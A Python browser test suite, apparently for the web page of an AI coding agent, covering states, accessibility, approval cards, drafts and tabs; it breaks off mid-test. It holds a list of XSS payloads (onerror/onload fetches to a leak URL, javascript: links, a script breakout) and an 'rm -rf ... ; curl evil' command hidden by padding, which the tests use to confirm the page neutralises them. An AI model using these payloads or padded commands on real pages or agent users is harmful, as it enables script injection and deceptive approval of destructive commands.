"""The page of `odek serve` in Chromium: every state, hostile text, questions, the composer, several tabs."""

from __future__ import annotations

import json
import os
import subprocess
import time
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from fakes.page_server import PageServer, id_of
from support.devtools import Browser, Page
from support.page_states import CONTAINER, ENTRIES, STATES, State, call, card, fenced, open_state, result

from odek.web.errors import Refused

pytestmark = pytest.mark.once

ROOT = Path(__file__).parents[2]
SCREENS = ROOT / ".cache" / "screens"
WIDTHS = (1280, 360)
HOSTILE = (
    "<img src=x onerror=fetch('/api/sessions')>",
    "<svg/onload=fetch('http://127.0.0.1:1/leak')>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![](http://127.0.0.1:1/leak?c=1)",
    "</script><script>document.title='owned'</script>",
    '```"><script>alert(1)</script>\ncode\n```',
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    '[y](http://127.0.0.1:1/x" onmouseover=alert(1))',
    "<style>body{display:none}</style>\u202egnp.exe\u2066",
)
ALL = "\n\n".join(HOSTILE)


def is_up(page: Page, name: str) -> None:
    """Go to a session and wait until it is drawn."""
    page.evaluate(f"location.hash = '#/s/{id_of(name)}'")
    page.wait_for("document.querySelector('#log .user')")


def opened(
    page: Page, server: PageServer, name: str = "one", entries: list[dict[str, Any]] = ENTRIES, **fields: Any
) -> None:
    """Sign in and open a session that is live and has a stream."""
    server.add(name, entries, container=CONTAINER, **fields)
    page.open(server.url)
    page.wait_for("document.body.dataset.ready")
    is_up(page, name)
    server.wait_for_stream(name)


@pytest.fixture(scope="session")
def axe() -> str:
    """The source of axe-core."""
    done = subprocess.run([ROOT / "scripts" / "axe"], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    if done.returncode:
        (pytest.fail if os.environ.get("CI") else pytest.skip)(f"no axe-core: {done.stderr}")
    return Path(done.stdout.strip()).read_text(encoding="utf-8")


def found_by_axe(page: Page, axe: str) -> list[str]:
    """Return what axe-core finds of level serious or critical."""
    page.evaluate(f"globalThis.axe ? 1 : (() => {{ {axe}; return 1; }})()")
    found = page.evaluate(
        "axe.run(document, {resultTypes: ['violations'], rules: {'color-contrast': {enabled: true}}}).then((all) =>"
        " all.violations.filter((one) => ['serious', 'critical'].includes(one.impact))"
        ".map((one) => one.id + ': ' + one.nodes.map((node) => node.html.slice(0, 160) + ' ' +"
        " (node.any[0]?.message ?? '')).join(' | ')))"
    )
    assert isinstance(found, list)
    return found


@pytest.mark.parametrize("state", STATES, ids=lambda state: state.name)
def test_each_state_is_whole_at_both_widths_and_in_both_themes(
    chromium: Browser, page: Page, server: PageServer, axe: str, state: State
) -> None:
    """R-157, R-160, R-152, W-23: a screenshot of each, nothing serious for axe-core, nothing scrolls sideways."""
    SCREENS.mkdir(parents=True, exist_ok=True)
    open_state(page, server, state)
    findings: dict[str, list[str]] = {}
    for width in WIDTHS:
        for dark in (False, True):
            page.emulate(width=width, height=800 if width > 500 else 740, dark=dark)
            name = f"{state.name}-{width}{'-dark' if dark else ''}"
            shot = page.screenshot(SCREENS / f"{name}.png")
            assert len(shot) > 4000, name  # not an empty window
            wide = page.evaluate(
                "[...document.querySelectorAll('body, main, .log, .composer, .top, .dock, .pane')]"
                ".filter((one) => one.scrollWidth > one.clientWidth + 1).map((one) => one.id || one.className)"
            )
            findings[f"{name} sideways"] = wide
            if dark == (width < 500):
                findings[f"{name} axe"] = found_by_axe(page, axe)
    assert {name: found for name, found in findings.items() if found} == {}
    in_sight = page.evaluate(
        "[...document.querySelectorAll('#composer, #stop')].every((one) => one.hidden || one.closest('[inert]') ||"
        " one.getBoundingClientRect().bottom <= innerHeight + 1)"
    )
    assert in_sight


@pytest.mark.parametrize("name", ["asking", "empty"])
def test_the_page_stands_zoom_and_wide_text(page: Page, server: PageServer, name: str) -> None:
    """R-160, R-152: at twice the size, at 320 px, and with text spaced as readers set it, nothing is cut or lost."""
    open_state(page, server, next(state for state in STATES if state.name == name))
    spacing = "*{line-height:1.5!important;letter-spacing:.12em!important;word-spacing:.16em!important}"
    for width, height in ((640, 400), (320, 480)):
        page.emulate(width=width, height=height)
        for rules in ("", spacing):
            page.evaluate(
                f"(() => {{ const sheet = new CSSStyleSheet(); sheet.replaceSync({json.dumps(rules)});"
                " document.adoptedStyleSheets = [sheet]; })()"
            )
            cut = page.evaluate(
                "[...document.querySelectorAll('body, main, .log, .composer, .top, .dock, button, .field')]"
                ".filter((one) => one.offsetParent && one.scrollWidth > one.clientWidth + 1)"
                ".filter((one) => !one.closest('#list, .badge'))"
                ".map((one) => one.id || one.className)"
            )
            out = page.evaluate(
                "[...document.querySelectorAll('#send, #stop:not([hidden]), #open-sessions, .approval .no')]"
                ".map((one) => one.getBoundingClientRect()).filter(({left, top, right, bottom}) =>"
                " bottom > innerHeight + 1 || right > innerWidth + 1 || left < 0 || top < 0).length"
            )
            assert (cut, out) == ([], 0), f"{width} px, {rules}"


def test_hostile_text_is_text_wherever_it_stands(page: Page, server: PageServer) -> None:
    """W-19, R-150, P-16, B50: answers, pieces, results, names, titles, errors and cards show it; nothing acts."""
    server.damaged.append({"id": HOSTILE[0], "message": HOSTILE[1]})
    server.refusal = {"code": "changed", "message": HOSTILE[0], "hint": HOSTILE[5]}
    server.files = [{"path": HOSTILE[0], "folder": False, "size": 1}]
    networks = [{"name": HOSTILE[1], "internal": False}]
    entries = [
        {"kind": "user", "text": ALL, "files": [HOSTILE[0]]},
        {"kind": "assistant", "text": ALL},
        {"kind": "note", "text": ALL},
        call("c1", HOSTILE[0], f"{HOSTILE[0]}: x", command=ALL, **{HOSTILE[1]: HOSTILE[0]}),
        result("c1", HOSTILE[0], fenced(HOSTILE[1].replace('"', "'"), ALL) + "\nexit code: 1"),
        call("c2", "patch", "patch: x", path=HOSTILE[0]),
        result("c2", "patch", fenced("patch:x", f"@@ -1,1 +1,1 @@\n-{HOSTILE[0]}\n+{HOSTILE[5]}") + "\nreplaced: 1"),
        call("c3", "read_file", "read_file: y", path="y"),
        result("c3", "read_file", json.dumps({"error": ALL}), failed=True),
        {"kind": "future", "text": ALL},
    ]
    writable = {"ok": True}
    opened(page, server, "one", entries, title=HOSTILE[0], model=HOSTILE[1], writable=writable)
    server.sessions[id_of("one")].snapshot["container"] = {**CONTAINER, "networks": networks, "image": HOSTILE[0]}
    hostile_card = card("a-1", ALL, classes=(HOSTILE[0],), place=HOSTILE[1])
    hostile_card["items"][0] |= {"reason": ALL, "rule": ALL, "setting": HOSTILE[0], "risk": ALL}
    hostile_card["from"] = {"task": 2, "of": 3, "goal": ALL}
    server.push("one", "turn_started", turn=2, text=ALL, files=[HOSTILE[0]], at="")
    server.push("one", "text", text=ALL)
    page.wait_for("document.querySelector('.growing')?.innerText.includes('onerror')")
    server.push("one", "tool_started", id="r1", name="shell", arguments=json.dumps({"command": ALL}), title=HOSTILE[0])
    server.push("one", "tool_output", id="r1", tail=ALL, size_bytes=9)
    server.push("one", "notice", text=ALL)
    server.push("one", "warning", text=ALL, hint=ALL)
    server.push("one", "task_started", task="r1/1", of=2, goal=ALL, facts=None)
    server.push("one", "approval_asked", approval=hostile_card)
    server.push(
        "one", "sandbox", state="ready", facts={**CONTAINER, "networks": networks, "image": HOSTILE[0]}, reason=None
    )
    page.wait_for("document.querySelector('.approval') && document.querySelector('.call .live')")
    page.evaluate("document.querySelectorAll('.call > button').forEach((one) => one.click())")
    for tab in ("sandbox", "changes", "agents"):
        page.evaluate(
            "document.querySelector('#open-details[aria-expanded=false]')?.click();"
            f" document.querySelector('#tab-{tab}').click()"
        )
        page.wait_for("document.querySelector('#pane').childElementCount")
        page.evaluate("document.querySelectorAll('#pane summary').forEach((one) => one.click())")
    page.evaluate("document.querySelector('#text').focus()")
    page.type("@<")
    page.wait_for("!document.querySelector('#completion').hidden")
    server.push(
        "one", "turn_ended", turn=2, status="failed", seconds=1, error={"message": ALL, "hint": ALL}, usage=None
    )
    page.wait_for("document.querySelector('.ending.failed')")
    foreign = page.evaluate(
        '[...document.querySelectorAll(\'img, svg[onload], script:not([src="app.js"]), iframe, style, [onerror],'
        ' [onload], [onmouseover], a[href^="javascript" i], a[href^="data" i]\')]'
        ".map((one) => one.outerHTML.slice(0, 200))"
    )
    assert foreign == []
    assert "owned" not in page.evaluate("document.title + typeof globalThis.owned").replace("owned'", "")
    assert page.evaluate("document.body.innerText.includes('\\u202e')") is False
    assert [url for url in page.requested() if not url.startswith(server.origin)] == []
    rels = page.evaluate("[...new Set([...document.querySelectorAll('#log a')].map((one) => one.rel + one.target))]")
    assert rels in ([], ["noopener noreferrer_blank"])


def test_the_token_leaves_the_address_at_once(page: Page, server: PageServer) -> None:
    """P-5: the token is in no address and no history of the browser after the login, and in no request's address."""
    page.open(server.url)
    page.wait_for("document.body.dataset.ready")
    history = page.send("Page.getNavigationHistory")["entries"]
    assert [entry["url"] for entry in history if "token" in entry["url"]] == []
    assert (
        page.evaluate("JSON.stringify([location.href, {...localStorage}, {...sessionStorage}, document.cookie])").count(
            "01234567"
        )
        == 0
    )
    assert [url for url in page.requested() if "token=" in url.partition("#")[0]] == []


def test_a_question_is_read_to_its_end_before_a_yes(page: Page, server: PageServer) -> None:
    """W-21, R-155, P-12, P-14: escapes are seen, "yes" waits for the end, a double click answers once, a key never."""
    text = (
        "rm -rf \u202e/tmp\u200b"
        + " " * 5000
        + "; curl evil\n"
        + "\n".join(f"echo line {number}" for number in range(400))
    )
    asked = card("a-1", text)
    opened(page, server, approvals=[asked], state="asking", turn={"turn": 1, "text": "x", "partial": "", "running": []})
    other = page.browser.new_tab(server.url, context=page.context)
    is_up(other, "one")
    other.wait_for("document.querySelector('.approval')")
    page.wait_for("document.querySelector('.approval')")
    page.send("Page.bringToFront")
    shown = page.text(".exact")
    assert "\\u202e" in shown
    assert "\\u200b" in shown
    assert "[5000 spaces]" in shown
    assert "line 399" in shown
    assert page.evaluate("document.querySelector('.answer.yes').disabled") is True
    assert page.evaluate("document.querySelector('.answer.no').disabled") is False
    assert page.evaluate("document.activeElement.className.includes('answer')") is False
    assert "Approval needed: network_egress, on sandbox odek-4242-3" in page.text("#assertive")
    for name in ("Enter", " ", "Escape"):
        page.key(name)
    page.evaluate("document.querySelector('#text').focus()")
    page.key("Enter")
    page.key("Escape")
    page.evaluate("document.querySelector('#dock').scrollTop = 1e6")
    page.wait_for("!document.querySelector('.answer.yes').disabled")
    assert [one for one in server.calls if one[0] == "answer"] == []
    page.reload()
    page.wait_for("document.querySelector('.approval')")  # a reload shows it again
    page.evaluate("document.querySelector('#dock').scrollTop = 1e6")
    page.wait_for("!document.querySelector('.answer.yes').disabled")
    page.click(".answer.yes", count=2)
    page.wait_for("document.querySelector('.settled:not(.open)')?.innerText.includes('Allowed once')")
    other.send("Page.bringToFront")
    other.wait_for("document.querySelector('.settled:not(.open)')?.innerText.includes('Allowed once')")
    assert other.evaluate("document.querySelector('#dock').hidden") is True
    assert [one[:3] for one in server.calls if one[0] == "answer"] == [("answer", "a-1", "once")]
    other.close()


def test_what_lies_under_the_buttons_was_not_in_view(page: Page, server: PageServer) -> None:
    """R-155: the end of the text is in view when it is above the buttons, which lie over what scrolls."""
    opened(page, server, state="working", turn={"turn": 1, "text": "x", "partial": "", "running": []})
    for lines in range(1, 24, 2):
        text = "\n".join(f"echo {number}" for number in range(lines))
        server.push("one", "approval_asked", approval=card(f"a-{lines}", text))
        page.wait_for(f"document.querySelector('.approval[data-id=\"a-{lines}\"]')")
        page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done, 60)))")
        enabled, above = page.evaluate(
            "['.answer.yes', '.end', 'footer'].map((one) => document.querySelector('.approval ' + one))"
            ".reduce((all, one) => [...all, one], []).map((one, at, [yes, end, footer]) => at === 0 ? !yes.disabled"
            " : end.getBoundingClientRect().bottom <= footer.getBoundingClientRect().top + 1).slice(0, 2)"
        )
        assert enabled == above, f"{lines} lines"
        server.push("one", "approval_settled", id=f"a-{lines}", answer="deny", how="person")
        page.wait_for("!document.querySelector('.approval')")


def test_a_question_shows_its_text_exactly(page: Page, server: PageServer) -> None:
    """R-155: beyond ASCII letters stay, in the order in which they are; what looks like something else is an escape."""
    shown = {
        "caf\u00e9 \u5317\u4eac \u03b1\u03b2": "caf\u00e9 \u5317\u4eac \u03b1\u03b2",
        "a\u0301 b": "a\u0301 b",
        "a" + "\u0301" * 3: "a" + "\\u0301" * 3,
        "/\u0301": "/\\u0301",
        "rm \u2215etc\uff0f": "rm \\u2215etc\\uff0f",
        "\u02bcx\u02bc": "\\u02bcx\\u02bc",
        "a\xa0b\u3000c": "a\\xa0b\\u3000c",
        "x\r\ny\tz\x1b[31m": "x\\x0d\ny\tz\\x1b[31m",
        "\U0001f600": "\\U0001f600",
        "a" + " " * 24 + "b": "a" + " " * 24 + "b",
        "a" + " " * 25 + "b": "a[25 spaces]b",
        "a" + "\n" * 40 + "b": "a\n[39 blank lines]\nb",
    }
    page.open(server.url)
    page.wait_for("document.body.dataset.ready")
    texts = page.evaluate(
        f"import('./render.js').then((one) => {json.dumps(list(shown))}.map((text) =>"
        " one.appendExact(document.createElement('pre'), text).textContent))"
    )
    assert dict(zip(shown, texts, strict=True)) == shown
    opened(page, server, state="working", turn={"turn": 1, "text": "x", "partial": "", "running": []})
    server.push("one", "approval_asked", approval=card("a-1", "rm \u05d0/\u05d1 c"))
    page.wait_for("document.querySelector('.exact')")
    left = page.evaluate(
        "(() => { const node = document.querySelector('.exact').firstChild; const range = document.createRange();"
        " return [...node.data].map((_, at) => { range.setStart(node, at); range.setEnd(node, at + 1);"
        " return range.getBoundingClientRect().left; }); })()"
    )
    assert left == sorted(left)


def test_a_hasty_question_takes_the_word(page: Page, server: PageServer) -> None:
    """R-155: while answers come too fast a yes takes the typed word; Enter there answers nothing."""
    hasty = card("a-1", hasty=True)
    opened(page, server, approvals=[hasty], state="asking", turn={"turn": 1, "text": "x", "partial": "", "running": []})
    page.wait_for("document.querySelector('.hasty input')")
    assert page.evaluate("document.querySelector('.answer.yes').disabled") is True
    page.evaluate("document.querySelector('.hasty input').focus()")
    page.type("approve")
    page.key("Enter")
    page.wait_for("!document.querySelector('.answer.yes').disabled")
    assert [one for one in server.calls if one[0] == "answer"] == []
    page.click(".answer.yes")
    page.wait_for("document.querySelector('#dock').hidden")
    assert server.calls[-1][4] == "approve"


def test_two_questions_stand_one_after_the_other(page: Page, server: PageServer) -> None:
    """W-22, P-13: the second, of sub-agent 2 of 3, names its task; both can be answered, in any order."""
    second = card("a-2", "pip install requests", classes=("install",))
    second["from"] = {"task": 2, "of": 3, "goal": "update the dependencies"}
    turn = {"turn": 1, "text": "x", "partial": "", "running": []}
    opened(page, server, approvals=[card("a-1"), second], state="asking", turn=turn)
    page.wait_for("document.querySelectorAll('.approval').length === 2")
    assert page.evaluate("document.querySelector('#dock').getAttribute('aria-label')") == "2 open questions"
    shown = page.text(".approval[data-id='a-2']")
    assert "sub-agent 2 of 3" in shown
    assert "update the dependencies" in shown
    page.click(".approval[data-id='a-2'] .answer.no")
    page.wait_for("document.querySelectorAll('.approval').length === 1")
    assert "curl" in page.text(".approval")
    server.push("one", "approval_settled", id="a-1", answer="deny", how="timeout")
    page.wait_for("document.querySelector('#dock').hidden")
    assert "Denied: nobody answered in time" in page.text("#log")


def test_a_batch_card_offers_what_it_may(page: Page, server: PageServer) -> None:
    """R-155: a card of several shows each text, and all, one by one, or none; never trust."""
    batch = card("a-1", count=2, answers=("all", "singly", "none"))
    turn = {"turn": 1, "text": "x", "partial": "", "running": []}
    opened(page, server, approvals=[batch], state="asking", turn=turn)
    page.wait_for("document.querySelectorAll('.item').length === 2")
    labels = page.evaluate("[...document.querySelectorAll('.approval .answer')].map((one) => one.innerText)")
    assert labels == ["Allow all", "Ask one by one", "Deny all"]
    assert "app_default" in page.text(".approval")
    server.refuse["answer"] = Refused(410, "gone", "it was cancelled")
    page.click(".answer.no")
    page.wait_for("document.querySelector('#dock').hidden")


def test_what_is_typed_is_never_lost(page: Page, server: PageServer) -> None:
    """W-24, R-156, P-19: failing, killed, restarted, reloaded: the text stands; a new server signs the page out."""
    opened(page, server)
    page.evaluate("document.querySelector('#text').focus()")
    page.type("a long thought")
    server.refuse["start_turn"] = Refused(503, "stopping", "odek serve is stopping")
    page.key("Enter")
    page.wait_for("document.querySelector('#hint').innerText.includes('stopping')")
    assert page.evaluate("document.querySelector('#text').value") == "a long thought"
    del server.refuse["start_turn"]
    page.reload()
    page.wait_for("document.querySelector('#log .user')")
    assert page.evaluate("document.querySelector('#text').value") == "a long thought"
    server.wait_for_stream("one")
    page.evaluate("document.querySelector('#text').focus()")
    server.stop()
    page.wait_for("document.body.innerText.includes('No connection')")
    page.type("!")
    assert page.evaluate("document.querySelector('#text').value") == "a long thought!"
    server.restart()
    page.wait_for("document.querySelector('#full')?.innerText.includes('Signed out')")
    page.evaluate("document.querySelector('#full input').focus()")
    page.type(server.url)
    page.key("Enter")
    page.wait_for("document.querySelector('#full').hidden && document.querySelector('#log .user')")
    assert page.evaluate("document.querySelector('#text').value") == "a long thought!"
    seen: list[str] = []
    server.on_turn = lambda _, text: seen.append(text)
    page.evaluate("document.querySelector('#text').focus()")
    page.key("Enter")
    page.wait_for("document.querySelector('#text').value === ''")
    assert seen == ["a long thought!"]


def test_the_same_message_keeps_its_id(page: Page, server: PageServer) -> None:
    """R-156: a message that is tried again is the same request, so it starts one turn."""
    opened(page, server)
    page.evaluate("document.querySelector('#text').focus()")
    page.type("once")
    server.refuse["start_turn"] = Refused(503, "stopping", "try again")
    page.key("Enter")
    page.wait_for("document.querySelector('#hint').innerText.includes('try again')")
    first = page.evaluate("performance.getEntriesByType('resource').length")
    assert first
    del server.refuse["start_turn"]
    page.key("Enter")
    page.wait_for("document.querySelector('#text').value === ''")
    ids = [json.loads(event["request"]["postData"])["request_id"] for kind, event in page.events
           if kind == "Network.requestWillBeSent" and event["request"]["url"].endswith("/turns")]  # fmt: skip
    assert len(ids) == 2
    assert len(set(ids)) == 1


def test_a_message_waits_for_the_end_of_the_turn(page: Page, server: PageServer) -> None:
    """R-156: while a turn runs one message can be set to follow it, and can be taken back."""
    opened(page, server, state="working", turn={"turn": 1, "text": "x", "partial": "", "running": []})
    page.wait_for("!document.querySelector('#stop').hidden")
    page.evaluate("document.querySelector('#text').focus()")
    page.type("then this")
    page.key("Enter")
    page.wait_for("document.querySelector('#next').innerText.includes('then this')")
    page.click("#next button")
    assert page.evaluate("document.querySelector('#text').value") == "then this"
    page.key("Enter")
    page.type("and more")
    page.key("Enter")
    page.wait_for("document.querySelector('#hint').innerText.includes('waits already')")
    server.push("one", "turn_ended", turn=1, status="answered", error=None, usage=None, seconds=1)
    page.wait_for("document.querySelector('#next').hidden")
    assert [one[1] for one in server.calls if one[0] == "turn"] == ["then this"]
    assert page.evaluate("document.querySelector('#text').value") == "and more"


def test_a_turn_from_the_first_message_to_the_answer(page: Page, server: PageServer) -> None:
    """R-152, R-154, R-156: files are completed and attached, a session begins, work is seen, stopped, and answered."""
    page.open(server.url)
    page.wait_for("document.querySelector('#badge').innerText.includes('sandbox planned')")
    page.evaluate("document.querySelector('#text').focus()")
    page.type("Fix @slu")
    page.wait_for("!document.querySelector('#completion').hidden")
    page.key("Tab")
    assert page.evaluate("document.querySelector('#text').value") == "Fix @slugify.sh "
    page.evaluate(
        "(() => { const data = new DataTransfer(); data.items.add(new File(['abc'], 'n\\u00f6te.txt'));"
        " const paste = new ClipboardEvent('paste', {clipboardData: data, cancelable: true});"
        " document.querySelector('#text').dispatchEvent(paste); })()"
    )
    page.wait_for("document.querySelector('#files').innerText.includes('3 B')")
    page.reload()
    page.wait_for("document.querySelector('#files').innerText.includes('nöte.txt')")
    assert page.evaluate("document.querySelector('#text').value") == "Fix @slugify.sh "
    page.evaluate("document.querySelector('#text').focus()")
    page.key("Enter")
    page.wait_for("document.querySelector('#log .user')?.innerText.includes('Fix @slugify.sh')")
    created = next(one for one in server.calls if one[0] == "create")
    assert created[1] == "Fix @slugify.sh"
    assert len(created[2]) == 1
    assert next(one[1:] for one in server.calls if one[0] == "upload")[1] == b"abc"
    name = server.sessions[page.evaluate("location.hash.slice(4)")].snapshot["title"]
    (session,) = [one for key, one in server.sessions.items() if one.snapshot["title"] == name]
    scripted = next(key for key in (f"new {number}" for number in range(1, 50)) if id_of(key) in server.sessions)
    assert session is server.sessions[id_of(scripted)]
    server.wait_for_stream(scripted)
    push = partial(server.push, scripted)
    push("sandbox", state="ready", facts=CONTAINER, reason=None)
    push("model_asked", iteration=1)
    for piece in ("First the **test", "**, to see\n\nwhat `fails", "`."):
        push("text", text=piece)
    page.wait_for("document.querySelector('.growing strong')?.innerText === 'test'")
    push(
        "model_replied",
        iteration=1,
        content="First the **test**, to see\n\nwhat `fails`.",
        tool_calls=[],
        stop="x",
        usage={},
    )
    push("tool_started", id="r1", name="shell", arguments='{"command":"make"}', title="shell: make")
    push("tool_output", id="r1", tail="compiling a\ncompiling b\n", size_bytes=24)
    page.wait_for("document.querySelector('.call.running .live')?.innerText.includes('compiling b')")
    assert "sandbox planned" not in page.text("#badge")
    assert page.evaluate("document.title").startswith("●")
    push(
        "tool_finished",
        id="r1",
        name="shell",
        failed=True,
        result=fenced("$ make", "x\n" * 3000 + "no rule") + "\nexit code: 2",
    )
    page.wait_for("document.querySelector('.call.failed')?.innerText.includes('exit 2')")
    page.click(".call.failed > button")
    page.wait_for(
        "document.querySelector('.call .fold')?.innerText.includes('show 2\\u202f000 more of 3\\u202f001 lines')"
    )
    page.evaluate("document.querySelector('.call .fold').click()")
    page.wait_for("document.querySelector('.call .fold').innerText.includes('show all (3\\u202f001 lines)')")
    page.evaluate("document.querySelector('.call .fold').click()")
    assert page.evaluate("document.querySelector('.call .result pre').innerText.split('\\n').length") == 3001
    page.key(".", modifiers=2, code=190)
    page.wait_for("!document.querySelector('#stop').disabled")
    deadline = time.monotonic() + 5
    while not any(one == ("cancel", 1) for one in server.calls):
        assert time.monotonic() < deadline
        time.sleep(0.02)
    push(
        "turn_ended",
        turn=1,
        status="cancelled",
        error=None,
        seconds=2,
        usage={"input_tokens": 1234, "output_tokens": 5, "cached_tokens": 0},
    )
    page.wait_for("document.querySelector('#log').innerText.includes('Stopped')")
    assert page.evaluate("document.querySelector('#stop').hidden")


def test_an_event_of_a_later_version_hurts_nothing(page: Page, server: PageServer) -> None:
    """P-15: unknown kinds and fields are passed over; a broken event is too, and those after it are drawn."""
    opened(page, server)
    server.push("one", "telemetry", anything={"deep": [1, 2]})
    server.push(
        "one",
        "approval_asked",
        approval={"id": "a-9", "kind": "vote", "answers": ["perhaps", "deny"], "digest": "x", "new": 1},
    )
    server.push("one", "turn_started", turn=2, text="still here", files=[], at="", colour="blue")
    page.wait_for("document.querySelector('#log').innerText.includes('still here')")
    page.wait_for("document.querySelector('.approval')?.innerText.includes('perhaps')")


def test_what_is_typed_into_nothing_begins_a_message(page: Page, server: PageServer) -> None:
    """R-156: nothing typed is lost, also where no field has the focus; keys with a meaning keep it."""
    opened(page, server)
    page.evaluate("document.activeElement.blur(); 1")
    page.key("?", modifiers=8)
    page.wait_for("document.querySelector('#help').open")
    page.key("Escape")
    page.wait_for("!document.querySelector('#help').open")
    page.evaluate("document.activeElement.blur(); 1")
    for letter in "why":
        page.key(letter)
    assert page.evaluate("[document.activeElement.id, document.activeElement.value]") == ["text", "why"]


def test_the_keyboard_leads_everywhere(page: Page, server: PageServer) -> None:
    """R-159, W-23: Tab goes through all controls in order; Escape closes a sheet and answers nothing."""
    opened(
        page, server, approvals=[card()], state="asking", turn={"turn": 1, "text": "x", "partial": "", "running": []}
    )
    page.wait_for("document.querySelector('.approval')")
    page.evaluate("document.activeElement.blur(); getSelection().removeAllRanges(); 1")
    order: list[str] = []
    for _ in range(60):
        page.key("Tab")
        order.append(
            page.evaluate(
                "document.activeElement.id || document.activeElement.className || document.activeElement.tagName"
            )
        )
        if order[-1] == "attach":
            break
    wanted = [
        "skip",
        "badge",
        "stop",
        "open-details",
        "new",
        "filter",
        "answer yes",
        "answer yes second",
        "answer no",
        "text",
    ]
    assert [one for one in order if one in wanted] == wanted
    assert page.evaluate("matchMedia('(min-width: 60rem)').matches") is True
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"
    page.evaluate("document.querySelector('#badge').focus()")
    page.key("Enter")
    page.wait_for("!document.querySelector('#details').hidden")
    page.key("Escape")
    page.wait_for("document.querySelector('#details').hidden")
    page.key("?", modifiers=8)
    page.wait_for("document.querySelector('#help').open")
    page.key("Escape")
    page.wait_for("!document.querySelector('#help').open")
    page.emulate(width=360, height=740)
    page.click("#open-sessions")
    page.wait_for("document.querySelector('#sessions.open').contains(document.activeElement)")
    page.key("Escape")
    page.wait_for("document.activeElement.id === 'open-sessions'")
    assert [one for one in server.calls if one[0] in ("answer", "cancel")] == []


def test_back_forward_and_a_second_session(page: Page, server: PageServer) -> None:
    """R-158: the address holds the session; drafts stay with theirs."""
    server.add("two", [{"kind": "user", "text": "the second"}])
    opened(page, server)
    page.evaluate("document.querySelector('#text').focus()")
    page.type("for the first")
    page.evaluate(f"location.hash = '#/s/{id_of('two')}'")
    page.wait_for("document.querySelector('#log').innerText.includes('the second')")
    assert page.evaluate("document.querySelector('#text').value") == ""
    page.evaluate("history.back()")
    page.wait_for("document.querySelector('#log').innerText.includes('What changed')")
    assert page.evaluate("document.querySelector('#text').value") == "for the first"
    server.push("one", "reset")
    page.wait_for("document.querySelector('#log').innerText.includes('What changed')")


def test_a_hidden_tab_gives_its_stream_up(page: Page, server: PageServer) -> None:
    """R-158: after 20 s out of sight a tab has no stream; in sight it has one again and says what is asked."""
    page.send(
        "Page.addScriptToEvaluateOnNewDocument",
        source="const wait = setTimeout; globalThis.setTimeout = (act, ms) => wait(act, ms === 20000 ? 200 : ms);"
        " let hidden = false; Object.defineProperty(document, 'hidden', { get: () => hidden });"
        " globalThis.hide = (on) => { hidden = on; document.dispatchEvent(new Event('visibilitychange')); };",
    )
    opened(page, server)
    page.evaluate("hide(true)")
    deadline = time.monotonic() + 20
    while server.sessions[id_of("one")].streams:  # the server notices when it writes
        assert time.monotonic() < deadline
        time.sleep(0.3)
        server.push("one", "tool_output", id="none", tail="", size_bytes=0)
    assert "No connection" not in page.text()
    page.evaluate("hide(false)")
    server.wait_for_stream("one")
    server.push("one", "approval_asked", approval=card())
    page.wait_for("document.title.startsWith('(?)')")
    assert page.evaluate("document.querySelector('#favicon').getAttribute('href')") == "icon.svg#asking"


def test_finished_paragraphs_are_announced_and_pieces_are_not(page: Page, server: PageServer) -> None:
    """R-160: what grows stands outside of what readers are told; a block that is complete moves in."""
    opened(page, server)
    server.push("one", "turn_started", turn=2, text="x", files=[], at="")
    server.push("one", "text", text="One paragraph.\n\nAnd a sec")
    page.wait_for("document.querySelector('.growing .tail')?.innerText.includes('And a sec')")
    assert page.evaluate("document.querySelector('.growing .tail').getAttribute('aria-live')") == "off"
    assert page.text(".growing > .prose:first-child") == "One paragraph."
    assert page.evaluate("document.querySelector('#log').getAttribute('role')") == "log"


def test_older_entries_come_by_scrolling_and_the_document_stays_small(page: Page, server: PageServer) -> None:
    """W-25, P-17, R-162, small: 1,000 entries, at most 400 in the document, place kept, the end found again."""
    entries = [{"kind": "assistant", "text": f"entry {number}"} for number in range(1, 1001)]
    entries[-1] = {"kind": "user", "text": "the last"}
    opened(page, server, "long", entries)
    count = "document.querySelectorAll('#log > .reply, #log > .user').length"
    assert page.evaluate(count) == 100
    for _ in range(12):
        before = page.evaluate("document.querySelector('#log .reply').innerText")
        page.evaluate("document.querySelector('#scroller').scrollTop = 300")
        first = "document.querySelector('#log .reply').innerText"
        page.wait_for(f"{first} !== {json.dumps(before)} || {first}.trim() === 'entry 1'")
        if page.evaluate("document.querySelector('#log .reply').innerText.trim() === 'entry 1'"):
            break
    assert page.evaluate("document.querySelector('#log .reply').innerText.trim()") == "entry 1"
    assert page.evaluate(count) <= 400
    assert page.evaluate("document.querySelector('#scroller').scrollTop > 0")
    page.evaluate("document.querySelector('#scroller').scrollTop = 1e9")
    page.wait_for("document.querySelector('#log').innerText.includes('entry 450')")
    assert page.evaluate(count) <= 400
    page.click("#latest")
    page.wait_for("document.querySelector('#log .user')?.innerText.includes('the last')")


def test_the_seventh_tab_is_served(page: Page, server: PageServer) -> None:
    """W-7, P-7: six tabs on one session; the fifth is told that there are enough streams, and all of them work."""
    opened(page, server)
    tabs = [page.browser.new_tab(server.url, context=page.context) for _ in range(6)]
    for tab in tabs:
        tab.wait_for("document.body.dataset.ready")
        is_up(tab, "one")
    server.wait_for_stream("one", 4)
    last = tabs[-1]
    last.wait_for("document.body.innerText.includes('Many tabs are open')")
    last.send("Page.bringToFront")
    last.evaluate("document.querySelector('#text').focus()")
    last.type("from the seventh")
    last.key("Enter")
    last.wait_for("document.querySelector('#text').value === ''")
    assert [one[1] for one in server.calls if one[0] == "turn"] == ["from the seventh"]
    for tab in tabs:
        tab.close()


def test_the_end_is_followed_until_a_person_reads_above(page: Page, server: PageServer) -> None:
    """R-152, R-162: what comes scrolls into sight; after a turn of the wheel the place stays; a button leads back."""
    opened(page, server)
    at_end = "(({scrollTop, clientHeight, scrollHeight}) => scrollHeight - scrollTop - clientHeight < 60)"
    at_end += "(document.querySelector('#scroller'))"
    for number in range(200):
        server.push("one", "notice", text=f"note {number}")
    page.wait_for(f"document.querySelector('#log').innerText.includes('note 199') && {at_end}")
    page.send("Input.dispatchMouseEvent", type="mouseWheel", x=700, y=400, deltaX=0, deltaY=-900)
    page.wait_for("!document.querySelector('#latest').hidden")
    place = page.evaluate("document.querySelector('#scroller').scrollTop")
    for number in range(20):
